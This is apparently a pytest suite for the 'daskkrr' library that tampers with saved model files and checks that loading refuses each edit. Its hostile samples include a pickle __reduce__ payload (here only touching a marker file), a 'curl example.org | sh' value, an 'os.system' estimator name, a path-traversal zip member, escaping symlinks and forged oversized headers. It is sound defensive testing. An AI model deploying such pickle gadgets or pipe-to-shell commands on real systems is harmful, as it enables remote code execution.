"""Hostile model files: each edit of a saved model is refused by ``daskkrr.load`` with a
:class:`ModelFileError` naming the file and the field, before an estimator exists.

One small model of each kind is fitted once per module; every test edits a copy.
"""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import daskkrr
from daskkrr import (
    FalkonClassifier,
    FalkonRegressor,
    NystromKernelKMeans,
    NystromKernelPCA,
    OnlineKernelRidge,
)
from daskkrr.checkpoint import CheckpointError, FitCheckpoint
from daskkrr.models.persistence import ModelFileError
from daskkrr.utils.safe_files import MAX_JSON_DEPTH

META, ARRAYS = "daskkrr-model.json", "arrays.npz"


@pytest.fixture(scope="module")
def saved(tmp_path_factory) -> dict[str, Path]:
    rng = np.random.default_rng(0)
    X = rng.normal(size=(120, 3))
    labels = np.digitize(X[:, 0], [-0.5, 0.5])  # three classes
    root = tmp_path_factory.mktemp("saved")
    models = {
        "regressor": FalkonRegressor(n_centers=10, random_state=0).fit(X, X[:, 0]),
        "classifier": FalkonClassifier(n_centers=10, random_state=0).fit(X, labels),
        "online": OnlineKernelRidge(random_state=0).partial_fit(X, X[:, 0]),
        "kpca": NystromKernelPCA(n_components=2, n_centers=10, random_state=0).fit(X),
        "kmeans": NystromKernelKMeans(n_clusters=3, n_centers=10, random_state=0).fit(X),
    }
    return {name: model.save(root / name) for name, model in models.items()}


def _copy(saved: dict[str, Path], kind: str, tmp_path: Path) -> Path:
    dest = tmp_path / "model"
    shutil.copytree(saved[kind], dest)
    return dest


def _edit_meta(path: Path, edit: Any) -> None:
    meta = json.loads((path / META).read_text())
    edit(meta)
    (path / META).write_text(json.dumps(meta))


def _npy(array: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.lib.format.write_array(buf, array, allow_pickle=True)
    return buf.getvalue()


def _rewrite_members(path: Path, members: dict[str, bytes | None]) -> None:
    """Replace (bytes) or drop (None) members of arrays.npz, keeping the others byte for byte."""
    with zipfile.ZipFile(path / ARRAYS) as old:
        kept = {info.filename: old.read(info) for info in old.infolist()}
    kept.update(members)
    with zipfile.ZipFile(path / ARRAYS, "w", zipfile.ZIP_STORED) as new:
        for name, data in kept.items():
            if data is not None:
                new.writestr(name, data)


def _edit_array(path: Path, name: str, edit: Any) -> None:
    with np.load(path / ARRAYS) as npz:
        value = npz[name].copy()
    _rewrite_members(path, {f"{name}.npy": _npy(edit(value))})


def _with(value: np.ndarray, index: tuple, new: float) -> np.ndarray:
    value = value.astype(np.float64)
    value[index] = new
    return value


def _refused(path: Path, file: str, field: str) -> ModelFileError:
    """Load ``path``; the refusal must be a ModelFileError naming ``path/file`` and ``field``."""
    with pytest.raises(ModelFileError) as info:
        daskkrr.load(path)
    exc = info.value
    assert Path(exc.file) == path / file, str(exc)
    assert exc.field == field, str(exc)
    assert str(path / file) in str(exc) and field in str(exc)
    return exc


# --------------------------------------------------------------------------- arrays


@pytest.mark.parametrize("bad", [np.nan, np.inf, -np.inf])
@pytest.mark.parametrize("name", ["centers", "coef", "center_weights", "residuals", "y_mean", "intercept"])
def test_nan_or_inf_in_any_array(saved, tmp_path, name, bad):
    path = _copy(saved, "regressor", tmp_path)
    _edit_array(path, name, lambda v: _with(v, (0,) * v.ndim, bad))
    exc = _refused(path, ARRAYS, name)
    assert "NaN or inf" in str(exc)


@pytest.mark.parametrize("name", ["basis", "state_gram"])
def test_nan_in_unsupervised_and_stream_state_arrays(saved, tmp_path, name):
    path = _copy(saved, "kpca" if name == "basis" else "online", tmp_path)
    _edit_array(path, name, lambda v: _with(v, (0, 0), np.nan))
    _refused(path, ARRAYS, name)


@pytest.mark.parametrize(
    "name, edit",
    [
        ("coef", lambda v: v[:-1]),  # one coefficient fewer than centers
        ("centers", lambda v: np.hstack([v, v[:, :1]])),  # 4 features; fitted.n_features_in_ says 3
        ("center_indices", lambda v: v[:-1]),
        ("intercept", lambda v: np.zeros(2)),  # two targets for one coefficient column
    ],
)
def test_shapes_that_do_not_fit_together(saved, tmp_path, name, edit):
    path = _copy(saved, "regressor", tmp_path)
    _edit_array(path, name, edit)
    exc = _refused(path, ARRAYS, name)
    assert "has shape" in str(exc)


@pytest.mark.parametrize("dtype", [np.complex128, "U8"])
def test_complex_or_text_arrays(saved, tmp_path, dtype):
    path = _copy(saved, "regressor", tmp_path)
    _edit_array(path, "coef", lambda v: v.astype(dtype))
    exc = _refused(path, ARRAYS, "coef")
    assert "has dtype" in str(exc)


def test_pickle_payload_in_an_array(saved, tmp_path):
    marker = tmp_path / "pwned"
    path = _copy(saved, "regressor", tmp_path)
    # An object array is pickled by np.save; loading it would call Path.touch.
    _rewrite_members(path, {"coef.npy": _npy(np.array([_Payload(str(marker))], dtype=object))})
    exc = _refused(path, ARRAYS, "coef")
    assert "pickled objects" in str(exc) and not marker.exists()


class _Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (Path(self.marker),))


def _forged_header(shape: tuple[int, ...], data: bytes) -> bytes:
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, {"descr": "<f8", "fortran_order": False, "shape": shape})
    return buf.getvalue() + data


def test_a_3_terabyte_array_header_is_refused_before_allocation(saved, tmp_path):
    path = _copy(saved, "regressor", tmp_path)
    # 4e11 float64 = 3.2 TB claimed, 80 bytes held: refused from the header, nothing allocated.
    _rewrite_members(path, {"coef.npy": _forged_header((400_000_000_000,), b"\0" * 80)})
    exc = _refused(path, ARRAYS, "coef")
    assert "3200000000000 bytes" in str(exc) and "holds 80 bytes" in str(exc)


def test_negative_shape_in_a_header(saved, tmp_path):
    path = _copy(saved, "regressor", tmp_path)
    _rewrite_members(path, {"coef.npy": _forged_header((-2, -5), b"\0" * 80)})
    _refused(path, ARRAYS, "coef")


def test_truncated_npy_member(saved, tmp_path):
    path = _copy(saved, "regressor", tmp_path)
    with np.load(path / ARRAYS) as npz:
        whole = _npy(npz["centers"])
    _rewrite_members(path, {"centers.npy": whole[:-8]})
    exc = _refused(path, ARRAYS, "centers")
    assert "truncated" in str(exc)


def test_an_archive_that_is_not_a_zip(saved, tmp_path):
    path = _copy(saved, "regressor", tmp_path)
    (path / ARRAYS).write_bytes(b"PK\x03\x04 this is no zip archive" * 10)
    exc = _refused(path, ARRAYS, "file")
    assert "not a complete .npz" in str(exc)


def test_a_member_with_a_parent_path(saved, tmp_path):
    path = _copy(saved, "regressor", tmp_path)
    with np.load(path / ARRAYS) as npz:
        coef = _npy(npz["coef"])
    _rewrite_members(path, {"../coef.npy": coef, "coef.npy": None})
    _refused(path, ARRAYS, "'../coef.npy'")


def test_a_missing_array(saved, tmp_path):
    path = _copy(saved, "regressor", tmp_path)
    _rewrite_members(path, {"coef.npy": None})
    exc = _refused(path, ARRAYS, "coef")
    assert "lacks the array 'coef'" in str(exc)


@pytest.mark.parametrize("file, message", [(ARRAYS, "outside the folder"), (META, None)])
def test_a_symlink_out_of_the_model_folder(saved, tmp_path, file, message):
    path = _copy(saved, "regressor", tmp_path)
    outside = tmp_path / f"elsewhere-{file}"
    (path / file).rename(outside)
    (path / file).symlink_to(outside)
    exc = _refused(path, file, "path")
    if message is not None:
        assert message in str(exc)


# ---------------------------------------------------------------------- classifier


@pytest.mark.parametrize("classes", [np.array([0, 1]), np.array([0, 1, 2, 3]), np.array([0, 2, 1]),
                                     np.array([1, 1, 2])])
def test_class_list_that_does_not_match_the_coefficients(saved, tmp_path, classes):
    # 3 classes fitted: coef has 3 columns. Two classes would need 1 column, four 4; unsorted or
    # repeated labels would map columns to the wrong class.
    path = _copy(saved, "classifier", tmp_path)
    _edit_array(path, "classes", lambda v: classes)
    _refused(path, ARRAYS, "classes")


def test_class_weights_of_another_length(saved, tmp_path):
    path = _copy(saved, "classifier", tmp_path)
    _edit_array(path, "class_weight", lambda v: v[:2])
    _refused(path, ARRAYS, "class_weight")


# ------------------------------------------------------------------------ metadata


@pytest.mark.parametrize(
    "edit, field",
    [
        (lambda m: m["scaler"]["scale"].__setitem__(1, 0.0), "scaler.scale"),
        (lambda m: m["scaler"]["scale"].__setitem__(0, -2.0), "scaler.scale"),
        (lambda m: m["scaler"]["mean"].__setitem__(2, float("nan")), "scaler.mean"),
        (lambda m: m["scaler"].update(n_features=4, mean=[0.0] * 4, scale=[1.0] * 4), "scaler.n_features"),
        (lambda m: m["params"].update(sigma=2.0), "kernel"),  # the kernel's sigma is sqrt(3) ~ 1.73
        (lambda m: m["kernel"].update(sigma=0.5), "kernel"),  # params say sigma=None: sqrt(3)
        (lambda m: m["kernel"].update(name="laplacian"), "kernel"),
        (lambda m: m["kernel"].update(sigma=float("inf")), "kernel.sigma"),
        (lambda m: m["kernel"].update(sigma=-1.0), "kernel"),
        (lambda m: m["params"].update(penalty=-1e-3), "params.penalty"),
        (lambda m: m["params"].update(n_centers="10"), "params.n_centers"),
        (lambda m: m["params"].update(n_centers=10.5), "params.n_centers"),
        (lambda m: m["params"].update(sampler="magic"), "params.sampler"),
        (lambda m: m["params"].update(standardize="yes"), "params.standardize"),
        (lambda m: m["params"].update(evil=1), "params.evil"),
        (lambda m: m.update(params=[1, 2]), "params"),
        (lambda m: m.pop("kernel"), "kernel"),
        (lambda m: m["fitted"].pop("n_features_in_"), "fitted.n_features_in_"),
        (lambda m: m["fitted"].update(n_features_in_=True), "fitted.n_features_in_"),
        (lambda m: m.update(installer="curl example.org | sh"), "installer"),
        (lambda m: m.update(format_version=2), "format_version"),
        (lambda m: m.update(format="pickle"), "format"),
        (lambda m: m.update(estimator="os.system"), "estimator"),
        (lambda m: m.update(feature_names=["a", "b"]), "feature_names"),
        (lambda m: m.update(feature_names=["a", "b", 3]), "feature_names"),
        (lambda m: m.update(sampler_info="x"), "sampler_info"),
    ],
)
def test_contradicting_or_invalid_metadata(saved, tmp_path, edit, field):
    path = _copy(saved, "regressor", tmp_path)
    _edit_meta(path, edit)
    _refused(path, META, field)


def test_deeply_nested_json(saved, tmp_path):
    path = _copy(saved, "regressor", tmp_path)
    meta = json.loads((path / META).read_text())
    meta["sampler_info"] = "@nested@"
    nested = "[" * 100_000 + "]" * 100_000  # Python's parser would raise RecursionError
    (path / META).write_text(json.dumps(meta).replace('"@nested@"', nested))
    exc = _refused(path, META, "json")
    assert f"at most {MAX_JSON_DEPTH}" in str(exc)


@pytest.mark.parametrize("text", ["[1, 2, 3]", '"a string"', "{", "\xff\xfe"])
def test_json_that_is_not_an_object(saved, tmp_path, text):
    path = _copy(saved, "regressor", tmp_path)
    (path / META).write_bytes(text.encode("latin-1"))
    _refused(path, META, "json")


def test_stream_state_missing(saved, tmp_path):
    path = _copy(saved, "online", tmp_path)
    _edit_meta(path, lambda m: m.pop("state"))
    _refused(path, META, "state")


@pytest.mark.parametrize("scale", [[-1.0, 1.0, 1.0], [1.0, 1.0], "wide", [0.0, 1.0, 1.0]])
def test_stream_feature_scale_refused(saved, tmp_path, scale):
    """The online model's kernel is in its first call's feature units: the saved scales must fit it."""
    path = _copy(saved, "online", tmp_path)
    _edit_meta(path, lambda m: m["state"].update(feature_scale=scale))
    _refused(path, META, "state.feature_scale")


# ----------------------------------------------------------------------- unsupervised


@pytest.mark.parametrize(
    "kind, edit, field",
    [
        ("kpca", lambda m: m["fitted"].update(rank_=3), "fitted.rank_"),
        ("kpca", lambda m: m["fitted"].update(n_components_=99), "fitted.n_components_"),
        ("kpca", lambda m: m["params"].update(n_components=-1), "params.n_components"),
        ("kmeans", lambda m: m["params"].update(n_clusters=4), "cluster_centers"),  # 3 centroids saved
        ("kmeans", lambda m: m["params"].update(init="random-ish"), "params.init"),
        ("kmeans", lambda m: m["kernel"].update(sigma=3.0), "kernel"),
    ],
)
def test_unsupervised_metadata(saved, tmp_path, kind, edit, field):
    path = _copy(saved, kind, tmp_path)
    _edit_meta(path, edit)
    _refused(path, ARRAYS if field == "cluster_centers" else META, field)


@pytest.mark.parametrize(
    "kind, name, edit",
    [
        ("kpca", "eigenvalues", lambda v: v[:1]),
        ("kpca", "coef", lambda v: v[:, :1]),
        ("kpca", "basis", lambda v: v[:-1]),
        ("kmeans", "cluster_centers", lambda v: v[:, :-1]),
    ],
)
def test_unsupervised_shapes(saved, tmp_path, kind, name, edit):
    path = _copy(saved, kind, tmp_path)
    _edit_array(path, name, edit)
    _refused(path, ARRAYS, name)


# -------------------------------------------------- ambiguous files, other dtypes, fitted scalars


@pytest.mark.parametrize("old, new, field", [
    ('"params": {', '"params": {"penalty": -5.0, ', "penalty"),  # Python's json keeps the last, others the first
    ('"kernel": {', '"kernel": {"sigma": 9.0, ', "sigma"),
    ('"estimator": ', '"estimator": "FalkonClassifier", "estimator": ', "estimator"),
])
def test_a_json_key_twice(saved, tmp_path, old, new, field):
    path = _copy(saved, "regressor", tmp_path)
    text = (path / META).read_text()
    assert old in text
    (path / META).write_text(text.replace(old, new, 1))
    exc = _refused(path, META, field)
    assert "appears twice" in str(exc)


def test_an_array_member_twice(saved, tmp_path):
    """zipfile's last member and numpy's loader could disagree on which ``coef`` a model has."""
    import warnings

    path = _copy(saved, "regressor", tmp_path)
    with np.load(path / ARRAYS) as npz:
        coef = npz["coef"]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile: "Duplicate name"
        with zipfile.ZipFile(path / ARRAYS, "a") as archive:
            archive.writestr("coef.npy", _npy(coef * 100))
    exc = _refused(path, ARRAYS, "coef")
    assert "twice" in str(exc)


@pytest.mark.parametrize("name, dtype", [("coef", np.bool_), ("coef", np.int64), ("coef", np.float16),
                                         ("centers", np.int8), ("residuals", np.longdouble),
                                         ("center_indices", np.float64), ("y_mean", np.uint8)])
def test_arrays_of_another_dtype(saved, tmp_path, name, dtype):
    """save writes real numbers as float32/float64 and row numbers as integers; anything else is an edit
    (a bool or int8 ``coef`` or ``centers`` predicts a model that was never fitted)."""
    path = _copy(saved, "regressor", tmp_path)
    _edit_array(path, name, lambda v: (v + 0.5).astype(dtype))
    exc = _refused(path, ARRAYS, name)
    assert "has dtype" in str(exc)


@pytest.mark.parametrize("name, edit", [("center_weights", lambda v: _with(v, (0,), 0.0)),
                                        ("center_weights", lambda v: -v),
                                        ("center_indices", lambda v: v - 1000)])
def test_center_weights_and_row_numbers_out_of_range(saved, tmp_path, name, edit):
    path = _copy(saved, "regressor", tmp_path)
    _edit_array(path, name, edit)
    _refused(path, ARRAYS, name)


@pytest.mark.parametrize("kind, key, value", [
    ("regressor", "n_iter_", "many"), ("regressor", "n_iter_", -3), ("regressor", "n_iter_", True),
    ("regressor", "converged_", [1, 2]), ("regressor", "converged_", "yes"), ("regressor", "jitter_", -1e-3),
    ("regressor", "fit_time_", float("inf")), ("regressor", "n_data_passes_", 2.5),
    ("kmeans", "inertia_", "small"),
])
def test_fitted_scalars_of_the_wrong_type(saved, tmp_path, kind, key, value):
    path = _copy(saved, kind, tmp_path)
    _edit_meta(path, lambda m: m["fitted"].update({key: value}))
    _refused(path, META, f"fitted.{key}")


def test_a_library_version_that_is_not_text(saved, tmp_path):
    path = _copy(saved, "regressor", tmp_path)
    _edit_meta(path, lambda m: m.update(library_version={"$gt": ""}))
    _refused(path, META, "library_version")


@pytest.mark.parametrize("kind", ["regressor", "kpca"])
def test_an_array_save_does_not_write(saved, tmp_path, kind):
    """Unknown arrays are refused, not ignored, as unknown JSON fields are."""
    path = _copy(saved, kind, tmp_path)
    _rewrite_members(path, {"evil.npy": _npy(np.zeros(3))})
    exc = _refused(path, ARRAYS, "evil")
    assert "unknown array" in str(exc)


def test_a_model_folder_with_unicode_and_through_a_link_loads(saved, tmp_path):
    """Names are not the attack: a folder named in any script, or a link to a whole model folder, loads."""
    path = Path(shutil.copytree(saved["regressor"], tmp_path / "modèle 模型 \u200b"))
    (tmp_path / "link").symlink_to(path)
    X = np.random.default_rng(1).normal(size=(4, 3))
    expected = daskkrr.load(saved["regressor"]).predict(X)
    for where in (path, tmp_path / "link"):
        np.testing.assert_array_equal(daskkrr.load(where).predict(X), expected)


# ---------------------------------------------------------------------- the valid ones


def test_unedited_copies_load_and_predict_as_saved(saved, tmp_path):
    """The checks refuse edits, not files save() writes (a symlink inside the folder is fine too)."""
    X = np.random.default_rng(1).normal(size=(5, 3))
    for kind, source in saved.items():
        path = _copy(saved, kind, tmp_path / kind)
        (path / "real.npz").write_bytes((path / ARRAYS).read_bytes())
        (path / ARRAYS).unlink()
        (path / ARRAYS).symlink_to(path / "real.npz")
        model, again = daskkrr.load(source), daskkrr.load(path)
        method = "transform" if kind == "kpca" else "predict"
        np.testing.assert_array_equal(getattr(model, method)(X), getattr(again, method)(X))


# ------------------------------------------------------------------------ checkpoints


def test_a_checkpoint_with_a_forged_header_is_refused(tmp_path):
    ckpt = tmp_path / "ck"
    ckpt.mkdir()
    meta = np.array(json.dumps({"format": "daskkrr-checkpoint"}))
    with zipfile.ZipFile(ckpt / "checkpoint.npz", "w") as archive:
        archive.writestr("meta.npy", _npy(meta))
        archive.writestr("rhs.npy", _forged_header((400_000_000_000,), b"\0" * 80))
    with pytest.raises(CheckpointError, match=r"rhs: its header claims shape \(400000000000,\)"):
        FitCheckpoint(ckpt, resume=True).start(lambda: {})


def test_a_checkpoint_with_a_json_key_twice_is_refused(tmp_path):
    ckpt = tmp_path / "ck"
    ckpt.mkdir()
    meta = np.array('{"format": "daskkrr-checkpoint", "format": "daskkrr-checkpoint", "format_version": 5}')
    with zipfile.ZipFile(ckpt / "checkpoint.npz", "w") as archive:
        archive.writestr("meta.npy", _npy(meta))
    with pytest.raises(CheckpointError, match=r"format: appears twice in one JSON object"):
        FitCheckpoint(ckpt, resume=True).start(lambda: {})
